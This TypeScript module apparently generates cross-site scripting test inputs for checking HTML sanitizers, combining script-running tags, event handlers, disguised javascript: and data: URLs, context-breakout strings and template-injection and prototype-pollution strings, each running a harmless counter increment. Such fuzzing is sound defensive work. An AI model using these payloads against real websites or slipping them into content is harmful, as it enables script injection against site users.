/** Run by every payload that can run; noticed in the page, wherever it runs. */
export const RUN = "top.executed=(top.executed??0)+1";

/** Elements that run scripts on their own. `RUN` marks the handler. */
const RUNNING = [
  "<script>RUN</script>",
  "<script src='data:text/javascript,RUN'></script>",
  '<img src=x onerror="RUN">',
  "<img/src=x/onerror=RUN>",
  '<IMG SRC=x ONERROR="RUN">',
  '<image src=x onerror="RUN">',
  '<svg onload="RUN">',
  '<svg><animate onbegin="RUN" attributeName=x dur=1s></svg>',
  '<svg><set onbegin="RUN" attributeName=x></svg>',
  "<svg><script>RUN</script></svg>",
  '<svg><style><img src=x onerror="RUN"></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN&gt;">',
  '<body onload="RUN" onpageshow="RUN">',
  '<details open ontoggle="RUN">x</details>',
  '<input autofocus onfocus="RUN">',
  '<select autofocus onfocus="RUN"><option>x</select>',
  '<textarea autofocus onfocus="RUN">x</textarea>',
  '<button autofocus onfocus="RUN">x</button>',
  '<b tabindex=1 autofocus onfocus="RUN" id=x>x</b>',
  '<video><source onerror="RUN"></video>',
  '<video src=x onerror="RUN"></video>',
  '<audio src=x onerror="RUN"></audio>',
  '<marquee onstart="RUN">x</marquee>',
  '<object data=x onerror="RUN"></object>',
  '<embed src=x onerror="RUN">',
  '<link rel=stylesheet href=x onerror="RUN">',
  '<style onload="RUN">*{}</style>',
  '<iframe srcdoc="<script>RUN</script>"></iframe>',
  '<iframe onload="RUN"></iframe>',
  '<p style="animation:x 1s" onanimationstart="RUN">x</p>',
  '<a href=# onclick="RUN" onmouseover="RUN" onpointerenter="RUN">x</a>',
  '<dialog open onclose="RUN"><form method=dialog>x</form></dialog>',
  '<div contenteditable oninput="RUN" onbeforeinput="RUN">x</div>',
  '<template shadowrootmode=open><img src=x onerror="RUN"></template>',
];

/** Attributes with an address that the browser follows, at once or after a press. */
const CARRIERS = [
  '<a href="ADDRESS">x</a>',
  "<a href='ADDRESS' target=_blank rel=opener>x</a>",
  '<area href="ADDRESS">',
  '<form action="ADDRESS"><button>x</button></form>',
  '<button formaction="ADDRESS">x</button>',
  '<input type=image src="ADDRESS">',
  '<iframe src="ADDRESS"></iframe>',
  '<object data="ADDRESS"></object>',
  '<embed src="ADDRESS">',
  '<base href="ADDRESS">',
  '<svg><a xlink:href="ADDRESS"><text y=20>x</text></a></svg>',
  '<svg><use href="ADDRESS#x"></use></svg>',
  '<math href="ADDRESS">x</math>',
  '<meta http-equiv=refresh content="0;url=ADDRESS">',
  '<img src="ADDRESS">',
  '<link rel=import href="ADDRESS">',
];

/** Addresses that run something, some of them disguised. */
export const ADDRESSES = [
  "javascript:RUN",
  "JaVaScRiPt:RUN",
  " javascript:RUN",
  "\u0001javascript:RUN",
  "java\tscript:RUN",
  "java\nscript:RUN",
  "java&#9;script:RUN",
  "&#106;avascript:RUN",
  "javascript&colon;RUN",
  "javascript://%0aRUN",
  "/\\javascript:RUN",
  "vbscript:RUN",
  "data:text/html,<script>RUN</script>",
  `data:text/html;base64,${btoa(`<script>${RUN}</script>`)}`,
  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>",
].map((address) => address.replaceAll("RUN", RUN));

/** Ways in which a text could break out of its place. */
const BREAKOUTS = [
  "",
  '">',
  "'>",
  "</script>",
  "</title>",
  "</style>",
  "</textarea>",
  "</noscript>",
  "</template>",
  "-->",
  "]]>",
  "<!--><",
  "\u0000",
  "`>",
  "<<",
];

/** Not markup, but a trap for templates and for code that copies objects. */
const OTHERS = [
  "'-RUN-'",
  '"-RUN-"',
  "$" + "{RUN}",
  "{{RUN}}",
  "{{constructor.constructor('RUN')()}}",
  "#{RUN}",
  "<%= RUN %>",
  "__proto__",
  "constructor.prototype",
  "\\u003cimg src=x onerror=RUN\\u003e",
  "&lt;img src=x onerror=RUN&gt;",
  "&amp;lt;img src=x onerror=RUN&amp;gt;",
  "%3Cimg%20src=x%20onerror=RUN%3E",
  "＜img src=x onerror=RUN＞",
  "\u202e<img src=x onerror=RUN>",
  "$&$1$`$'<img src=x onerror=RUN>",
];

function allPayloads(): string[] {
  const markup = BREAKOUTS.flatMap((out) => RUNNING.map((element) => `${out}${element}`));
  const addresses = CARRIERS.flatMap((carrier) =>
    ADDRESSES.map((one) => carrier.replace("ADDRESS", () => one)),
  );
  return [...OTHERS, ...addresses, ...markup].map((text) => text.replaceAll("RUN", RUN));
}

/** This many payloads, spread evenly over every kind. */
export function payloads(count: number): string[] {
  const all = allPayloads();
  if (all.length < count) throw new Error(`There are only ${all.length} payloads.`);
  return Array.from({ length: count }, (_, at) => all[Math.floor((at * all.length) / count)] ?? "");
}
